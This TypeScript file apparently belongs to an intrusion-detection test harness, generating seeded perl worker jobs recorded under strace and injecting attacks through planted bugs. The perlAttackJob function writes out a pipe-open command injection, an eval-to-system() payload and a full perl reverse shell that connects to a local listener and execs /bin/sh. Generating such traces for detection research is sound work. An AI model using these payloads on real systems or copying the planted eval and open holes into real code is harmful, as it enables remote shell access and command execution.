// The perl scenario: a long-running perl worker (perlWorker.ts) processing a seeded stream of text-processing jobs
// from stdin, recorded whole under strace -f. Attacks go through its two planted bugs, as an attacker who controls
// one job's fields would: `open-pipe-injection` (two-argument open of "id > FILE |" runs a shell), `eval-system`
// (calc's eval runs system()) and `eval-reverse-shell` (calc's eval connects back to 127.0.0.1 with IO::Socket::INET,
// forks and execs /bin/sh -i on the socket: the classic perl reverse shell).

import { createHash } from "node:crypto";
import { mkdirSync, writeFileSync } from "node:fs";
import path from "node:path";
import { HomeostatError } from "../errors.js";
import { SeededRandom } from "../models/random.js";
import { proofFile, shellProof } from "./attackProof.js";
import { textOfSize } from "./corpus.js";
import { LineChannel } from "./lineChannel.js";
import { PERL_WORKER_SOURCE } from "./perlWorker.js";
import { between, pick, planAttack, rngFor, weighted, word } from "./planning.js";
import { openShellListener } from "./reverseShell.js";
import { startTraced } from "./straceRecorder.js";
import { cleanEnv, missingTools, toolPath, toolVersion } from "./tools.js";
import type { AttackReport, RecordedRun, RecordingPlan, RecordingSpec, RecordingTarget, Scenario } from "./types.js";

export interface PerlJob {
  kind: string;
  args: string[];
  /** Whether the worker must answer OK or ERR. */
  expect: "ok" | "err";
  /** The exact answer, for jobs whose result is known in advance. */
  value?: string;
}

export const PERL_TEXT_FILES = ["notes-1.txt", "notes-2.txt", "notes-3.txt", "notes-4.txt", "log-1.txt", "log-2.txt"];
export const PERL_CSV_FILES = ["sales-1.csv", "sales-2.csv", "sales-3.csv"];

const WEIGHTS = [
  ["upper", 8],
  ["reverse", 5],
  ["wc", 10],
  ["grep", 10],
  ["sort", 6],
  ["md5", 6],
  ["sha", 4],
  ["b64", 5],
  ["csv", 6],
  ["json", 5],
  ["date", 4],
  ["stat", 6],
  ["write", 8],
  ["calc", 8],
  ["list", 3],
  ["gzip", 3],
  ["bogus", 1],
] as const;
type JobKind = (typeof WEIGHTS)[number][0];

/** An arithmetic expression of small integers and its value (+, -, * only: exact in both perl and JavaScript). */
function expression(rng: SeededRandom): [string, number] {
  let text = String(between(rng, 1, 99));
  let terms = [Number(text)];
  let ops: string[] = [];
  for (let i = between(rng, 1, 3); i > 0; i--) {
    const op = pick(rng, ["+", "-", "*"]);
    const n = between(rng, 1, 99);
    text += ` ${op} ${n}`;
    ops.push(op);
    terms.push(n);
  }
  // * before + and -, left to right.
  for (let k = 0; k < ops.length; k++) {
    if (ops[k] !== "*") continue;
    terms[k] = terms[k]! * terms[k + 1]!;
    terms = [...terms.slice(0, k + 1), ...terms.slice(k + 2)];
    ops = [...ops.slice(0, k), ...ops.slice(k + 1)];
    k--;
  }
  let v = terms[0]!;
  ops.forEach((op, k) => (v = op === "+" ? v + terms[k + 1]! : v - terms[k + 1]!));
  return [text, v];
}

const digest = (algo: string, s: string): string => createHash(algo).update(s, "utf8").digest("hex");

/** One job of a kind, with what the worker must answer. */
function job(rng: SeededRandom, kind: JobKind): PerlJob {
  const text = `${word(rng)} ${word(rng)} ${word(rng, 1, 12)}`;
  const file = pick(rng, PERL_TEXT_FILES);
  switch (kind) {
    case "upper":
      return { kind, args: [text], expect: "ok", value: text.toUpperCase() };
    case "reverse":
      return { kind, args: [text], expect: "ok", value: [...text].reverse().join("") };
    case "md5":
      return { kind, args: [text], expect: "ok", value: digest("md5", text) };
    case "sha":
      return { kind, args: [text], expect: "ok", value: digest("sha256", text) };
    case "b64":
      return { kind, args: [text], expect: "ok", value: Buffer.from(text).toString("base64") };
    case "calc": {
      const [expr, value] = expression(rng);
      return { kind, args: [expr], expect: "ok", value: String(value) };
    }
    case "stat": {
      const missing = rng.next() < 0.15;
      return { kind, args: [missing ? `missing-${word(rng)}.txt` : file], expect: missing ? "err" : "ok" };
    }
    case "bogus":
      return { kind: word(rng, 4, 8), args: [text], expect: "err" };
    default:
      return fileJob(rng, kind, file);
  }
}

/** The jobs that work on the worker's data files. */
function fileJob(rng: SeededRandom, kind: JobKind, file: string): PerlJob {
  const csv = pick(rng, PERL_CSV_FILES);
  const args: Record<string, string[]> = {
    wc: [file],
    grep: [word(rng, 3, 6).slice(0, 4), file],
    sort: [file, String(between(rng, 1, 8))],
    csv: [csv, String(between(rng, 1, 3))],
    json: Array.from({ length: between(rng, 1, 5) }, () => `${word(rng)}=${word(rng)}`),
    date: [String(between(rng, 0, 2_000_000_000))],
    write: [`${pick(rng, ["results", "summary", "audit"])}.txt`, `${word(rng)} ${word(rng)}`],
    list: [pick(rng, [".", "sub"])],
    gzip: [file],
  };
  return { kind, args: args[kind] ?? [file], expect: "ok" };
}

/** The plan of one perl recording: `spec.actions` jobs, and the attack's position. */
export function planPerlJobs(spec: RecordingSpec): RecordingPlan<PerlJob> {
  const rng = rngFor(spec);
  const actions = Array.from({ length: spec.actions }, () => job(rng, weighted(rng, WEIGHTS)));
  const attack = planAttack(spec);
  return { seed: spec.seed, actions, ...(attack !== undefined ? { attack } : {}) };
}

/** The worker's data files: the same in every recording (the image's data), written before it starts. */
export function writePerlData(dir: string): void {
  const rng = new SeededRandom(0x9e71);
  mkdirSync(path.join(dir, "sub"), { recursive: true });
  for (const f of PERL_TEXT_FILES) writeFileSync(path.join(dir, f), textOfSize(rng, between(rng, 500, 40_000)));
  for (const f of PERL_CSV_FILES) {
    const rows = ["id,units,price,total"];
    for (let i = 0; i < between(rng, 20, 400); i++) {
      const u = between(rng, 1, 50);
      const p = between(rng, 1, 999);
      rows.push(`${i},${u},${p},${u * p}`);
    }
    writeFileSync(path.join(dir, f), `${rows.join("\n")}\n`);
  }
  writeFileSync(path.join(dir, "sub", "readme.txt"), textOfSize(rng, 300));
}

export const PERL_ATTACKS = ["open-pipe-injection", "eval-system", "eval-reverse-shell"] as const;

/** The job line of an attack, with the shell listener's port where it needs one. */
export function perlAttackJob(kind: string, proof: string, port: number): string[] {
  switch (kind) {
    case "open-pipe-injection":
      return ["wc", `id > ${proof} |`];
    case "eval-system":
      return ["calc", `1;system("id > ${proof}")`];
    case "eval-reverse-shell":
      return [
        "calc",
        `1;use IO::Socket::INET;my $s=IO::Socket::INET->new(PeerAddr=>"127.0.0.1:${port}") or die;` +
          `if(!fork){open(STDIN,"<&",$s);open(STDOUT,">&",$s);open(STDERR,">&",$s);exec("/bin/sh","-i")}1`,
      ];
    default:
      throw new HomeostatError("E_USAGE", `unknown perl attack ${kind}`);
  }
}

/** Sends one job and checks its answer against what the plan expects. */
async function runJob(channel: LineChannel, id: number, j: PerlJob): Promise<void> {
  channel.send([String(id), j.kind, ...j.args].join("\t"));
  const answer = await channel.readLine();
  const [gotId, status, ...rest] = answer.split("\t");
  const value = rest.join("\t");
  const ok = gotId === String(id) && status === j.expect.toUpperCase() && (j.value === undefined || value === j.value);
  if (!ok) {
    throw new HomeostatError(
      "E_IO",
      `perl job ${id} (${j.kind}) expected ${j.expect}${j.value ? ` ${j.value}` : ""}, got ${answer}`,
    );
  }
}

/** Runs an attack job: the answer may be anything, the evidence must be there. */
async function runAttack(channel: LineChannel, kind: string, workDir: string): Promise<AttackReport> {
  const proof = path.join(workDir, "proof.txt");
  const listener = kind === "eval-reverse-shell" ? await openShellListener() : undefined;
  try {
    const fields = perlAttackJob(kind, proof, listener?.port ?? 0);
    const time = Date.now() / 1000;
    channel.send(["0", ...fields].join("\t"));
    await channel.readLine();
    const evidence = listener ? shellProof(await listener.transcript, kind) : proofFile(proof, kind);
    return { kind, time, command: fields.join(" "), evidence, dataOnly: false };
  } finally {
    listener?.close();
  }
}

async function recordPerl(plan: RecordingPlan<PerlJob>, target: RecordingTarget): Promise<RecordedRun> {
  const data = path.join(target.workDir, "data");
  const out = path.join(target.workDir, "out");
  writePerlData(data);
  mkdirSync(out, { recursive: true });
  const script = path.join(target.workDir, "worker.pl");
  writeFileSync(script, PERL_WORKER_SOURCE);
  const { groups } = target;
  const started = Date.now() / 1000;
  const traced = startTraced(groups, {
    tracePath: target.tracePath,
    command: [toolPath("perl")!, script, data, out],
    cwd: target.workDir,
    env: cleanEnv(target.workDir),
    stdin: "pipe",
  });
  let attack: AttackReport | undefined;
  try {
    const channel = new LineChannel(traced.child, "the perl worker");
    for (let i = 0; i < plan.actions.length; i++) {
      if (plan.attack?.at === i) attack = await runAttack(channel, plan.attack.kind, target.workDir);
      await runJob(channel, i + 1, plan.actions[i]!);
    }
    channel.end();
    await traced.finish();
  } finally {
    groups.killAll();
  }
  return { started, ended: Date.now() / 1000, ...(attack !== undefined ? { attack } : {}) };
}

export const perlScenario: Scenario<PerlJob> = {
  name: "perl",
  attacks: PERL_ATTACKS,
  dataOnlyAttacks: [],
  defaultActions: 200,
  unavailable: () => missingTools(["perl"]),
  image: () => `perl/${toolVersion(toolPath("perl") ?? "perl", ["-e", "print $^V"], /v?(\d+\.\d+\.\d+)/)}`,
  plan: planPerlJobs,
  describe: (j) => `${j.kind} ${j.args.join(" ")}`.slice(0, 100),
  prepare: async () => ({ record: recordPerl, close: async () => {} }),
};
